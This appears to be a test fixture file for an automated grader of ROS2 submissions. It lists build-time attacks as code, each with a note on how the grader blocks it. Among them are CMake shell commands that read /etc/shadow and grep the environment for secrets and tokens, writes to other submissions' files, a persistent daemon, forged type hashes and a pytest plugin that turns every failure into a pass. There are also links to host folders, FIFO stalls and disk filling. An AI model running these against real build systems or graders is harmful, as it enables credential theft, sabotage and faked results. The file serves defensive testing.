@@ -1,0 +1,168 @@
+"""Attacks by the build and by what it installs: CMake and Python tools run the submission's code."""
+
+# ruff: noqa: E501 - attacks are quoted as they stand
+
+from __future__ import annotations
+
+from grader.selftest.attacks.attack import Attack, append, attack, cmake, put
+
+# What a command said is told again at the end: of a build's log the tail is kept.
+_PROBE = """execute_process(COMMAND sh -c [[{}]]
+  OUTPUT_FILE ${{CMAKE_BINARY_DIR}}/said.txt ERROR_FILE ${{CMAKE_BINARY_DIR}}/said_too.txt)
+install(CODE "file(READ ${{CMAKE_BINARY_DIR}}/said.txt said)\nfile(READ ${{CMAKE_BINARY_DIR}}/said_too.txt too)
+message(STATUS \\"ATTACK \\${{said}} \\${{too}}\\")")"""
+_SITE = "${PYTHON_INSTALL_DIR}"
+_FORGED = '{"type_hashes": [{"type_name": "ros2_robot_controller/msg/SensorFusionData", "hash_string": "@HASH@"}]}'
+# What the contract's definition hashes to; anybody can build it and read it.
+_CONTRACT_HASH = "RIHS01_4594d365e707447f5bb0938855c190dc03d2b24dbca7a1fbb1bf1432ba507c23"
+
+
+def _shell(script: str) -> str:
+    return _PROBE.format(script.strip())
+
+
+ATTACKS: tuple[Attack, ...] = (
+    attack(
+        "runs_code_at_build",
+        "CMakeLists.txt reads the host's files, writes to the cache and calls the network.",
+        cmake(_shell("""
+cat @SECRET@ /etc/shadow /root/.bashrc; id; ls /ws /ws/ccache
+for f in /ws/ccache/evil /ws/src/evil /usr/evil @NEIGHBOUR@; do echo x > $f && echo wrote $f; done
+python3 -c 'import socket; socket.create_connection(("127.0.0.1", @PORT@), 2)'
+env | grep -i -E 'secret|token'
+""")),
+        number=34, needs="I1", weak="", proof="ATTACK",
+        stopped="a build runs behind a wall of its own: no network, the compiler cache read-only",
+    ),
+    attack(
+        "leaves_a_daemon_at_build",
+        "CMakeLists.txt starts a process that outlives the build.",
+        cmake(_shell("setsid sh -c 'while :; do sleep 1; done' @TOKEN@ >/dev/null 2>&1 </dev/null & echo started")),
+        number=15, needs="I1", proof="ATTACK started",
+        stopped="the build's wall falls with its first process, and everything in it",
+    ),
+    attack(
+        "forges_a_type_hash",
+        "The build installs a forged description beside an interface with another field type.",
+        put("forged/SensorFusionData.json", _FORGED.replace("@HASH@", _CONTRACT_HASH)),
+        cmake("install(FILES forged/SensorFusionData.json DESTINATION share/${PROJECT_NAME}/msg)"),
+        needs="I3", weak="other type", flag="forged type",
+        stopped="hashes are computed from the definitions' text, behind a wall, by ROS's own tools",
+    ),
+    attack(
+        "forges_an_interface_text",
+        "The build installs the contract's definition, and a forged description, over another one.",
+        put("forged/SensorFusionData.json", _FORGED.replace("@HASH@", _CONTRACT_HASH)),
+        put("forged/SensorFusionData.msg",
+            "std_msgs/Header header\nfloat32 closest_obstacle_distance\nfloat32 battery_level\n"
+            "geometry_msgs/Vector3 linear_acceleration\ngeometry_msgs/Vector3 angular_velocity\n"),
+        cmake("install(FILES forged/SensorFusionData.json forged/SensorFusionData.msg DESTINATION share/${PROJECT_NAME}/msg)"),
+        needs="I3", weak="other type", flag="forged type",
+        stopped="what was handed in counts, not what the build installed",
+    ),
+    attack(
+        "customizes_python",
+        "The build installs sitecustomize.py, which runs in every Python that is started with the install tree.",
+        put("extra/sitecustomize.py",
+            "import os\nimport sys\nprint('ATTACK', os.path.basename(sys.argv[0] if hasattr(sys, 'argv') else ''), flush=True)\n"
+            "try:\n    open('@NEIGHBOUR@', 'w').write('{}')\nexcept OSError:\n    pass\n"),
+        cmake(f"install(FILES extra/sitecustomize.py DESTINATION {_SITE})"),
+        number=6, needs="F1", weak="creeps", flag="python start-up",
+        stopped="no Python on our side is started with the install tree; it is named all the same",
+    ),
+    attack(
+        "extends_pytest",
+        "The build installs an entry point for pytest that turns every failure into a pass.",
+        put("extra/evil.dist-info/entry_points.txt", "[pytest11]\nevil = evil_plugin\n"),
+        put("extra/evil.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1\n"),
+        put("extra/evil_plugin.py",
+            "import pytest\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
+            "    result = yield\n    result.get_result().outcome = 'passed'\n"),
+        cmake(f"install(DIRECTORY extra/evil.dist-info DESTINATION {_SITE})\ninstall(FILES extra/evil_plugin.py DESTINATION {_SITE})"),
+        number=5, needs="T1", weak="failing tests", flag="entry point",
+        stopped="pytest's loading of entry points is switched off, and its reports are held against known results",
+    ),
+    attack(
+        "extends_ros2_and_launch",
+        "The build installs entry points for the ros2 command, colcon and launch's parsers.",
+        put("extra/evil.dist-info/entry_points.txt",
+            "[ros2cli.command]\ntopic = evil\n[launch.frontend.parser]\npy = evil\n[colcon_core.verb]\nbuild = evil\n"),
+        put("extra/evil.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1\n"),
+        put("extra/evil.py", "raise SystemExit(0)\n"),
+        cmake(f"install(DIRECTORY extra/evil.dist-info DESTINATION {_SITE})\ninstall(FILES extra/evil.py DESTINATION {_SITE})"),
+        number=7, needs="F1", weak="creeps", flag="entry point",
+        stopped="nothing on our side sees the install tree; our ros2 command knows no entry points",
+    ),
+    attack(
+        "shadows_modules",
+        "The build installs rclpy, numpy and geometry_msgs of its own, which publish zeros for everything.",
+        put("extra/numpy.py", "print('ATTACK numpy', flush=True)\n"),
+        put("extra/pytest.py", "print('ATTACK pytest', flush=True)\n"),
+        cmake(f"install(FILES extra/numpy.py extra/pytest.py DESTINATION {_SITE})"),
+        number=8, needs="F1 T1", weak="failing tests", costs="F1 T1", flag="module shadowing",
+        stopped="only the submission's own processes see them; the tests' worker has loaded its own before",
+    ),
+    attack(
+        "hooks_into_sourcing",
+        "The package brings hooks that run when its install tree is sourced.",
+        put("env/evil.sh.in", "echo ATTACK sourced\necho x > @NEIGHBOUR@\n"),
+        cmake("ament_environment_hooks(env/evil.sh.in)"),
+        put("colcon.pkg", '{"hooks": ["share/ros2_robot_controller/environment/evil.sh"]}'),
+        number=34, needs="I1", stopped="nobody sources the install tree: environments are written from nothing",
+    ),
+    attack(
+        "links_out_of_the_tree",
+        "The build installs links to the host's folders where the grader reads and mounts, and a pipe to hold it up.",
+        cmake("install(CODE [[\n"
+              "  set(top \"$ENV{DESTDIR}${CMAKE_INSTALL_PREFIX}\")\n"
+              "  file(MAKE_DIRECTORY \"${top}/share/ros2_robot_controller/links\")\n"
+              "  execute_process(COMMAND ln -sfn /etc ${top}/share/ros2_robot_controller/links/etc)\n"
+              "  execute_process(COMMAND ln -sfn /root ${top}/share/ros2_robot_controller/links/root)\n"
+              "  execute_process(COMMAND ln -sfn ../../../../../../.. ${top}/share/ros2_robot_controller/links/up)\n"
+              "  execute_process(COMMAND mkfifo ${top}/share/ros2_robot_controller/srv/Pipe.json)\n"
+              "]])"),
+        number=19, needs="I1", flag="link out",
+        stopped="links out of the tree and pipes are taken away before anybody reads, and flagged",
+    ),
+    attack(
+        "holds_up_a_reader",
+        "The build puts a pipe in the place of an interface's description, for the grader to wait at.",
+        cmake("install(CODE [[\n  set(there \"$ENV{DESTDIR}${CMAKE_INSTALL_PREFIX}/share/ros2_robot_controller/srv\")\n"
+              "  execute_process(COMMAND rm -f ${there}/SetSpeed.json)\n"
+              "  execute_process(COMMAND mkfifo ${there}/SetSpeed.json)\n]])"),
+        needs="I1 I3", costs="I3", flag="special file",
+        stopped="what is no plain file is taken away before anybody reads",
+    ),
+    attack(
+        "fills_the_disk",
+        "The build writes files without end.",
+        cmake("execute_process(COMMAND sh -c [[i=0; while [ $i -lt 400 ]; do "
+              "head -c 50000000 /dev/zero > /ws/build/fill$i || break; i=$((i+1)); done]])"),
+        number=24, needs="I1 F14", costs="I1 F14",
+        stopped="a guard counts what a build leaves, and ends the wall beyond a limit",
+    ),
+    attack(
+        "compiles_without_end",
+        "The build sleeps for ever.",
+        cmake("execute_process(COMMAND sleep 100000)"),
+        number=23, needs="I1 F14", costs="I1 F14", build_seconds=30.0,
+        stopped="a build has a limit of wall time; then its whole wall is ended",
+    ),
+    attack(
+        "plants_in_the_caches",
+        "The build plants an object file and a build tree for other submissions to find.",
+        cmake(_shell("""
+for f in /ws/ccache/0/evil /ws/ccache/ccache.conf /ws/build/../trees/evil; do
+  mkdir -p $(dirname $f); echo x > $f && echo wrote $f
+done
+""")),
+        needs="I1", proof="ATTACK",
+        stopped="only the kit's own builds fill the compiler cache; a build that can run something shares no tree",
+    ),
+    attack(
+        "runs_code_in_setup_py",
+        "setup.py writes to the neighbour's report when a Python tool reads it.",
+        append("setup.py", "\nopen('@NEIGHBOUR@', 'w').write('{}')\n"),
+        number=34, needs="Q1", costs="Q1", stopped="the grader's tools read Python as text and import none of it",
+    ),
+)  # fmt: skip
